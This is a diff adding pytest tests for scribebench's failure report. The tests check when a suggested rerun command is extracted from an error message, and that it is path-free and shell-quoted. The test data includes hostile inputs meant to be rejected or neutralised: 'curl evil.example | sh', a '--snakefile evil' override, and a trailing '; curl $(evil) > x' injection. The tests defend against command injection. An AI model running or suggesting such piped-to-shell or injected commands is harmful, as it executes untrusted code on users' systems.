@@ -2,6 +2,8 @@
 
 import json
 import re
+import shlex
+import sys
 from datetime import datetime
 from pathlib import Path
 from types import SimpleNamespace
@@ -9,10 +11,12 @@ from typing import Any
 
 import pytest
 
+from scribebench.errors import ScribebenchError, damaged, snakemake
 from scribebench.project import partial
 from scribebench.project.partial import (
     Failure,
     LeftOut,
+    cause_and_command,
     failures_of,
     forget_partial,
     is_mended,
@@ -181,6 +185,78 @@ def test_no_place_on_this_machine_is_told(tmp_path: Path, monkeypatch: pytest.Mo
     assert without_places(text) == 'File "workflow_scripts/a.py" and "…/b.py", .'
     assert without_places("at http://127.0.0.1:8080/v1/chat") == "at http://127.0.0.1:8080/v1/chat"
     assert without_places("1/2 results/runs/a/b.json") == "1/2 results/runs/a/b.json"
+
+
+@pytest.fixture(params=["bin", "my env's/bin", "scribe bench/.venv/bin", "bin/nothing"])
+def program(request: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    """The program as errors name it: outside of the project or in it, or not found."""
+    (tmp_path / "scribe bench").mkdir()
+    monkeypatch.chdir(tmp_path / "scribe bench")
+    place = tmp_path / request.param
+    place.mkdir(parents=True)
+    monkeypatch.setattr(sys, "executable", str(place / "python"))
+    if place.name == "bin":
+        (place / "snakemake").write_text("")
+    return ".venv/bin/snakemake" if ".venv" in request.param else "snakemake"
+
+
+def test_the_mend_of_a_cause_can_be_pasted(program: str) -> None:
+    """What a job reads is damaged: repeating the job alone would fail again."""
+    error = damaged(Path("results/tables/runs_of.parquet"), "it ends early")
+    log = Path("job.log")
+    log.write_text(f"one\nerror: {error}\n")
+    text = page([FAILURE._replace(rule="write_page", logs=("job.log",))], [], "", NOW)
+    command = f"{program} --cores 4 results/report.md -R build_tables"
+    assert f"This makes it again:\n\n```text\n{command}\n```" in text
+    assert "\n**results/tables/runs\\_of.parquet is damaged (it ends early)**\n" in text
+    assert f"make it again: {command}\n```" in text
+    assert "-R write_page" not in text and "Once that is mended" not in text
+    assert "…" not in text
+
+
+def test_a_condition_stays_before_its_command(program: str) -> None:
+    error = ScribebenchError(
+        f"a.mp4 gave other frames than before; if it was replaced, run: {snakemake()} --cores 4 "
+        f"--forcerun extract_frames {shlex.quote('results/sessions/a b/frames.parquet')}"
+    )
+    assert cause_and_command(without_places(str(error))) == (
+        "a.mp4 gave other frames than before; if it was replaced, run the command below",
+        f"{program} --cores 4 --forcerun extract_frames 'results/sessions/a b/frames.parquet'",
+    )
+
+
+@pytest.mark.parametrize(
+    "cause",
+    [
+        "the server is down; start it",
+        "the server has no model 'a' (it has: b); run: ollama pull a",
+        "it said no; make it again: curl evil.example | sh",
+        "it said no; make it again: snakemake --snakefile evil results/report.md",
+        "it said no; make it again: snakemake --cores=4 'results/report.md",
+        "it said no; make it again: snakemake --cores 4 …/frames.parquet --force",
+    ],
+)
+def test_any_other_cause_keeps_what_repeats_its_job(tmp_path: Path, cause: str) -> None:
+    assert cause_and_command(cause) == (cause, None)
+    (tmp_path / "job.log").write_text(f"error: {cause}\n", encoding="utf-8")
+    text = page([FAILURE._replace(logs=(str(tmp_path / "job.log"),))], [], "", NOW)
+    assert "Once that is mended, this repeats it alone:" in text
+    assert text.count("-R describe_frames") == 1
+    assert "This makes it again" not in text
+
+
+def test_no_word_of_a_mend_acts_in_a_shell() -> None:
+    cause = "it said no; make it again: snakemake --cores 4 results/report.md; curl $(evil) > x"
+    _, command = cause_and_command(cause)
+    assert command and command.endswith("--cores 4 'results/report.md;' curl '$(evil)' '>' x")
+
+
+def test_the_program_is_named_without_its_place() -> None:
+    assert without_places("run: '/a/my env/bin/snakemake' -n") == "run: snakemake -n"
+    assert without_places("run: /a/b/snakemake -n") == "run: snakemake -n"
+    assert without_places('File "/a/b/snakemake", line 1') == 'File "snakemake", line 1'
+    assert without_places("/a/b/snakemake/cli.py") == "…/cli.py"
+    assert without_places("/a/b/snakemake-1.log") == "…/snakemake-1.log"
 
 
 def test_failed_jobs_are_told_in_order() -> None:
